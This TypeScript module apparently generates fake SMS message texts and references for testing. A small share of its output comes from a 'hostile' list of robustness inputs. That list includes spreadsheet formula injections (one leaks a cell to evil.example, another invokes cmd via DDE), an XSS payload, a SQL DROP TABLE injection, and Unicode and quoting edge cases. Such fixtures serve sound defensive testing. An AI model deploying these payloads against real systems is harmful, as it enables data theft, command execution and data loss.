import { type Random, weigh } from './random'

const plain: readonly ((r: Random) => string)[] = [
  (r) => `Your verification code is ${r.between(100000, 999999)}. It expires in 10 minutes.`,
  (r) => `Order #${r.between(10000, 99999)} has left our warehouse and arrives tomorrow.`,
  (r) => `Reminder: your appointment is on ${r.between(1, 28)}/11 at ${r.between(8, 18)}:30.`,
  () => 'Thank you for your payment.',
  () => 'Reply STOP to unsubscribe',
  (r) =>
    `Hi ${r.pick(['Anna', 'Jürgen', 'Zoë', 'Łukasz', 'María'])}, your table for ${r.between(2, 8)} is confirmed.`,
]

/** Texts that break careless readers: formulas, quotes, line ends, markup, other scripts. */
const hostile: readonly string[] = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")',
  '=1+1',
  '+447700900000 called you',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+9)*cmd',
  '\t=2+5',
  'She said "yes", then ""no"", then \'maybe\'',
  'a,b,,c,"d",',
  'First line\nSecond line\n\nFourth line',
  'Windows line\r\nends here\r\n',
  '"',
  '""","""',
  '\n',
  '   leading and trailing spaces   ',
  '<script>alert(document.cookie)</script><img src=x onerror=alert(1)>',
  "Robert'); DROP TABLE reports;--",
  '{"json": [1, 2, "three"]}',
  '👩‍👩‍👧‍👦 family, 🇬🇧 flag, 👍🏽 skin tone, e\u0301 combining',
  'مرحبا بالعالم \u202Eright to left\u202C',
  '日本語のテキスト、句読点付き。',
  'NULL',
  'null',
  '\\N',
  '0012345',
  '1e309',
  '\u200B\uFEFFzero width',
  'Long '.repeat(300).trim(),
]

const kinds = weigh([
  ['plain', 94],
  ['two lines', 3],
  ['hostile', 3],
] as const)

/** The text of a message: mostly harmless, sometimes of several lines, sometimes hostile. */
export function makeText(random: Random): string {
  const kind = random.pickWeighted(kinds)
  if (kind === 'hostile') return random.pick(hostile)
  const text = random.pick(plain)(random)
  return kind === 'plain' ? text : `Dear customer,\n${text}\nYour team`
}

const references = ['', '', '', 'campaign-', 'order-', 'otp-'] as const

/** A reference that the sender chose: often none, seldom hostile. */
export function makeReference(random: Random): string {
  if (random.chance(0.01)) return random.pick(hostile).slice(0, 100)
  const prefix = random.pick(references)
  return prefix ? `${prefix}${random.between(1, 9999)}` : ''
}
